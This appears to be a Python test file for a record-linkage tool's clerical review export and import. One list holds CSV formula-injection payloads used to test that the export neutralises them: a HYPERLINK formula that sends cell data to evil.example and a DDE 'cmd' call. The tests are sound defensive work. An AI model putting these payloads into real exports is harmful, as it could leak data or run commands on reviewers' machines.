"""Clerical review round trip (issue 18, items 7 and 10): the export neutralises spreadsheet
formulas, is private and never overwrites a file of the job; the import reads what a spreadsheet
saves, checks every row against the job and its last run and saves nothing on any problem; a
saved decision that no longer fits the inputs is skipped at run time, never an exit 2.

The job is the small job of ``helpers`` with the tax source's identifier conflicts sent to review
(``-T2`` and ``+T3``: a national id whose date of birth disagrees) and a border-crossing source with
one rejected record (``C2``: no direction). Spreadsheet rows: the header is row 1, ``+T3`` row 2,
``-T2`` row 3.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
from pathlib import Path

import duckdb
import pytest

from tests.reliability.helpers import PERSONAL_VALUES, assert_fails_cleanly, cli, small_job
from tests.spine.test_bad_input import REGISTER

TAX = "id,nin,dob,year\nT1,001,02/01/1980,2020\n-T2,002,07/07/1977,2020\n+T3,001,03/03/1933,2021\n"
CROSSINGS = "id,nin,date,dir\nC1,001,2020-01-01,out\nC2,002,2020-02-02,\n"
#: What the export, the store and these tests hold that no message may show: names, dates of
#: birth, record ids and a made-up person id.
PERSONAL = (*PERSONAL_VALUES, "ANNA", "OMAR", "1977-07-07", "1933-03-03", "-T2", "+T3", "T9", "C2", "f" * 64)


def review_job(folder: Path, tax: str = TAX) -> Path:
    return small_job(
        folder, {"register.csv": REGISTER, "tax.csv": tax, "crossings.csv": CROSSINGS},
        sources__tax__linkage={"method": "deterministic_id", "id_fields": ["national_id"],
                               "id_check": {"action": "review", "fields": ["dob"], "min_disagreements": 1}},
        sources__crossings={"path": "crossings.csv", "record_id": "id",
                            "columns": {"national_id": "nin", "event_date": "date", "direction": "dir"},
                            "linkage": {"method": "deterministic_id", "id_fields": ["national_id"]}})


def run(job: Path) -> dict:
    result = cli("run", "--quiet", job)
    assert result.exit_code == 0, result.output
    return json.loads((job.parent / "out" / "quality.json").read_text())


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("review")
    run(review_job(folder))
    return folder


@pytest.fixture
def job(template, tmp_path) -> Path:
    """A copy of the run job (for exports and imports: a copy may not be run again, its output
    folder belongs to the template's job file)."""
    shutil.copytree(template, tmp_path, dirs_exist_ok=True)
    return tmp_path / "job.yaml"


@pytest.fixture
def fresh(tmp_path) -> Path:
    """The job run in this test's own folder (for tests that run it again)."""
    job = review_job(tmp_path)
    run(job)
    return job


def persons(job: Path) -> dict[str, str]:
    """Person id of each register record in the last run."""
    with duckdb.connect(str(job.parent / "out" / "t.duckdb"), read_only=True) as con:
        return dict(con.execute("SELECT record_id, person_id FROM links WHERE source = 'register'").fetchall())


def export(job: Path) -> tuple[list[str], list[dict[str, str]]]:
    out = job.parent / "reviewer" / "review.csv"
    result = cli("review", "export", job, "--out", out)
    assert result.exit_code == 0, result.output
    with out.open(newline="", encoding="utf-8") as handle:
        reader = csv.DictReader(handle)
        return list(reader.fieldnames or []), list(reader)


def write(path: Path, header: list[str], rows: list[dict[str, str]], encoding: str = "utf-8",
          delimiter: str = ",", with_header: bool = True) -> Path:
    text = io.StringIO(newline="")
    writer = csv.writer(text, delimiter=delimiter, lineterminator="\r\n")
    if with_header:
        writer.writerow(header)
    writer.writerows([row.get(c, "") for c in header] for row in rows)
    path.write_bytes(text.getvalue().encode(encoding))
    return path


def decided(job: Path, **decisions: str) -> Path:
    """The export with decisions by record id (as the reviewer sees it: ``'-T2``), saved."""
    header, rows = export(job)
    for row in rows:
        row["decision"] = decisions.get(row["record_id"], "")
    return write(job.parent / "reviewer" / "reviewed.csv", header, rows)


def decisions_file(job: Path) -> Path:
    return job.parent / "review" / "decisions.csv"


def saved(job: Path) -> list[tuple[str, ...]]:
    with decisions_file(job).open(newline="", encoding="utf-8") as handle:
        return [tuple(r) for r in csv.reader(handle)][1:]


# --- export -------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1", "  =1+1", "'=1+1"]


def crafted_store(folder: Path, value: str) -> Path:
    """The small job with a store holding one review pair whose record id and name are ``value``."""
    job = small_job(folder)
    (folder / "out").mkdir()
    with duckdb.connect(str(folder / "out" / "t.duckdb")) as con:
        fields = "first_name, surname, dob, sex, nationality, country_of_birth, postcode, house_number, street, locality"
        no_address = "NULL::VARCHAR AS house_number, NULL::VARCHAR AS street, NULL::VARCHAR AS locality"
        con.execute(f"CREATE TABLE std__tax AS SELECT $v AS record_id, $v AS first_name, 'X' AS surname, "
                    "DATE '1980-01-02' AS dob, 'f' AS sex, NULL::VARCHAR AS nationality, "
                    f"NULL::VARCHAR AS country_of_birth, NULL::VARCHAR AS postcode, {no_address}, "
                    "NULL::VARCHAR AS reject_reason", {"v": value})
        con.execute(f"CREATE TABLE spine__reference AS SELECT 'p1' AS entity_id, {fields} FROM "
                    "(SELECT $n AS first_name, 'X' AS surname, DATE '1980-01-02' AS dob, 'f' AS sex, "
                    f"NULL::VARCHAR AS nationality, NULL::VARCHAR AS country_of_birth, 'A1' AS postcode, {no_address})",
                    {"n": "O'BRIEN"})
        con.execute("CREATE TABLE review__pairs AS SELECT 'tax' AS source, $v AS record_id, 'p1' AS person_id, "
                    "0.5::DOUBLE AS match_probability, -3.5::DOUBLE AS match_weight, 'dob=-1.5' AS waterfall",
                    {"v": value})
    return job


@pytest.mark.parametrize("value", FORMULAS, ids=["hyperlink", "plus", "minus", "at", "tab", "cr", "blanks",
                                                 "quoted"])
def test_export_neutralises_formulas_and_the_import_takes_the_prefix_off(tmp_path, value):
    job = crafted_store(tmp_path, value)
    header, rows = export(job)
    [row] = rows
    assert row["record_id"] == "'" + value and row["record_first_name"] == "'" + value
    assert row["person_first_name"] == "O'BRIEN" and row["waterfall"] == "dob=-1.5"   # harmless: untouched
    assert row["match_weight"] == "-3.5"                                             # a number stays a number
    row["decision"] = "match"
    result = cli("review", "import", job, write(tmp_path / "reviewed.csv", header, rows))
    assert result.exit_code == 0, result.output
    assert saved(job) == [("tax", value, "p1", "match")]


def test_export_is_private_and_replaces_a_previous_export_whole(job):
    out = job.parent / "reviewer" / "review.csv"
    out.parent.mkdir()
    out.write_text("an older, longer export\n" * 100)
    export(job)
    assert os.stat(out).st_mode & 0o777 == 0o600
    assert "older" not in out.read_text()
    assert [p.name for p in out.parent.iterdir()] == ["review.csv"]   # no temporary file left


@pytest.mark.parametrize("target", ["tax.csv", "register.csv", "job.yaml", "review/decisions.csv",
                                    "out/t.duckdb", "out/review.csv", "out"])
def test_export_never_overwrites_a_file_of_the_job(job, target):
    decisions_file(job).parent.mkdir()
    decisions_file(job).write_text("source,record_id,person_id,decision\n")
    before = {p: p.read_bytes() for p in job.parent.rglob("*") if p.is_file()}
    result = cli("review", "export", job, "--out", job.parent / target)
    assert_fails_cleanly(result, 2, "--out", "nothing was written", personal=PERSONAL)
    assert {p: p.read_bytes() for p in job.parent.rglob("*") if p.is_file()} == before


# --- import: what a spreadsheet saves -------------------------------------------------------------

@pytest.mark.parametrize("encoding,delimiter", [("utf-8-sig", ","), ("cp1252", ","), ("cp1252", ";"),
                                                ("utf-16", "\t")],
                         ids=["utf8-bom", "cp1252", "cp1252-semicolon", "utf16-tab"])
def test_import_reads_what_excel_saves(job, encoding, delimiter):
    header, rows = export(job)
    for row in rows:
        row["decision"] = {"'-T2": "match", "'+T3": "Non_Match "}[row["record_id"]]   # as typed by a person
        row["person_first_name"] = "JOSÉ"                                             # not UTF-8 in cp1252
    reviewed = write(job.parent / "reviewed.csv", header, rows, encoding=encoding, delimiter=delimiter)
    result = cli("review", "import", job, reviewed)
    assert result.exit_code == 0, result.output
    ids = persons(job)
    assert saved(job) == [("tax", "+T3", ids["R1"], "non_match"), ("tax", "-T2", ids["R2"], "match")]
    assert os.stat(decisions_file(job)).st_mode & 0o777 == 0o600
    assert [p.name for p in decisions_file(job).parent.iterdir()] == ["decisions.csv"]


def test_identical_repeated_rows_count_once(job):
    header, rows = export(job)
    rows[1]["decision"] = "match"
    result = cli("review", "import", job, write(job.parent / "reviewed.csv", header, rows + [rows[1]]))
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("1 decisions imported")
    assert len(saved(job)) == 1


# --- import: every problem at once, nothing saved -------------------------------------------------

def _set(index: int, **values: str):
    def edit(header, rows):
        rows[index].update(values)
        return header, rows
    return edit


def _conflict(header, rows):
    rows[0]["decision"] = "match"
    return header, [*rows, {**rows[0], "decision": "non_match"}]


def _drop_decision_column(header, rows):
    rows[0]["decision"] = "match"
    return [c for c in header if c != "decision"], rows


def _several(header, rows):
    rows[0].update(record_id="T9", decision="match")
    rows[1].update(decision="yes")
    return header, rows


IMPORT_ERRORS = [
    ("unknown record", _set(0, record_id="T9", decision="match"), ["row 2, column record_id", "no record"]),
    ("unknown person", _set(1, person_id="f" * 64, decision="match"), ["row 3, column person_id", "not a person"]),
    ("unknown source", _set(0, source="visas", decision="match"), ["row 2, column source", "not a source of the job"]),
    ("base register record", _set(0, source="register", record_id="R1", decision="match"),
     ["row 2, column source", "base register"]),
    ("rejected record", _set(0, source="crossings", record_id="C2", decision="non_match"),
     ["row 2, column record_id", "rejected record"]),
    ("bad decision", _set(1, decision="yes"), ["row 3, column decision", "expected match, non_match or blank"]),
    ("blank person", _set(0, person_id="", decision="match"), ["row 2, column person_id: blank"]),
    ("conflicting duplicates", _conflict, ["row 4, columns source, record_id", "as row 2"]),
    ("missing column", _drop_decision_column, ["missing column(s) decision", "the columns found: source, record_id"]),
    ("several problems", _several, ["2 problems", "row 2, column record_id", "row 3, column decision"]),
]


@pytest.mark.parametrize("edit,fragments", [c[1:] for c in IMPORT_ERRORS], ids=[c[0] for c in IMPORT_ERRORS])
def test_import_checks_every_row_and_saves_nothing_on_a_problem(job, edit, fragments):
    assert cli("review", "import", job, decided(job, **{"'-T2": "non_match"})).exit_code == 0
    before = decisions_file(job).read_bytes()
    header, rows = export(job)
    header, rows = edit(header, rows)
    result = cli("review", "import", job, write(job.parent / "reviewed.csv", header, rows))
    assert_fails_cleanly(result, 2, "reviewed.csv", *fragments, personal=PERSONAL)
    assert decisions_file(job).read_bytes() == before


def test_import_of_a_file_without_its_header_shows_none_of_its_values(job):
    header, rows = export(job)
    rows[0]["decision"] = "match"
    result = cli("review", "import", job, write(job.parent / "reviewed.csv", header, rows, with_header=False))
    assert_fails_cleanly(result, 2, "missing column(s)", "not the header of `spine review export`", personal=PERSONAL)
    assert not decisions_file(job).exists()


def test_import_before_any_run_names_the_missing_store(tmp_path):
    job = review_job(tmp_path)
    reviewed = write(tmp_path / "reviewed.csv", ["source", "record_id", "person_id", "decision"],
                     [{"source": "tax", "record_id": "-T2", "person_id": "p", "decision": "match"}])
    assert_fails_cleanly(cli("review", "import", job, reviewed), 2, "no store yet; run the job first",
                         personal=PERSONAL)
    assert not decisions_file(job).exists()


# --- run time: saved decisions apply, and stale ones never block a run -----------------------------

def links(job: Path) -> dict[str, tuple]:
    with duckdb.connect(str(job.parent / "out" / "t.duckdb"), read_only=True) as con:
        return {r[0]: r[1:] for r in con.execute(
            "SELECT record_id, person_id, status, method, reason FROM links WHERE source = 'tax'").fetchall()}


def test_imported_decisions_override_the_model_on_the_next_run(fresh):
    ids = persons(fresh)
    assert cli("review", "import", fresh, decided(fresh, **{"'-T2": "match", "'+T3": "non_match"})).exit_code == 0
    linkage = run(fresh)["linkage"]
    assert links(fresh)["-T2"] == (ids["R2"], "linked", "clerical", None)
    assert links(fresh)["+T3"] == (None, "unlinked", None, "clerical_non_match")
    assert (linkage["clerical_decisions"], linkage["clerical_decisions_applied"],
            linkage["clerical_decisions_stale"]) == (2, 2, 0)


def test_a_decision_whose_record_left_the_inputs_is_skipped_not_fatal(fresh, caplog):
    """The issue's case: a saved decision names a record the inputs no longer hold. Before, every
    later run exited 2 until the file was edited by hand."""
    assert cli("review", "import", fresh, decided(fresh, **{"'-T2": "match", "'+T3": "non_match"})).exit_code == 0
    (fresh.parent / "tax.csv").write_text(TAX.replace("-T2,002,07/07/1977,2020\n", ""))
    for _ in range(2):   # and the run after it too
        caplog.clear()
        result = cli("run", "--quiet", fresh)
        assert result.exit_code == 0, result.output
        assert "1 saved clerical decision(s) skipped" in caplog.text   # on stderr, through logging
        assert not [v for v in PERSONAL if v in caplog.text]
        linkage = json.loads((fresh.parent / "out" / "quality.json").read_text())["linkage"]
        assert (linkage["clerical_decisions_applied"], linkage["clerical_decisions_stale"]) == (1, 1)
    assert "-T2" not in links(fresh)


def test_stale_decisions_of_every_kind_are_counted_and_none_counts_as_applied(fresh):
    """A decisions file from before the inputs (or the job) changed: a record gone, a person gone,
    a source no longer in the job, the base register's record, a record now rejected."""
    ids = persons(fresh)
    decisions_file(fresh).parent.mkdir()
    decisions_file(fresh).write_text(
        "source,record_id,person_id,decision\n"
        f"tax,-T2,{ids['R2']},match\n"                                   # still fits: applied
        f"tax,T9,{ids['R1']},match\n"
        f"tax,+T3,{'f' * 64},match\n"
        f"visas,V1,{ids['R1']},match\n"
        f"register,R1,{ids['R1']},match\n"
        f"crossings,C2,{ids['R2']},match\n")
    result = cli("run", "--quiet", fresh)
    assert result.exit_code == 0, result.output
    assert not [v for v in PERSONAL if v in result.output]
    linkage = json.loads((fresh.parent / "out" / "quality.json").read_text())["linkage"]
    assert (linkage["clerical_decisions"], linkage["clerical_decisions_applied"],
            linkage["clerical_decisions_stale"]) == (6, 1, 5)
    assert linkage["crossings"]["clerical_decisions_applied"] == 0
    assert links(fresh)["+T3"][1:] == ("review", None, "id_conflict")
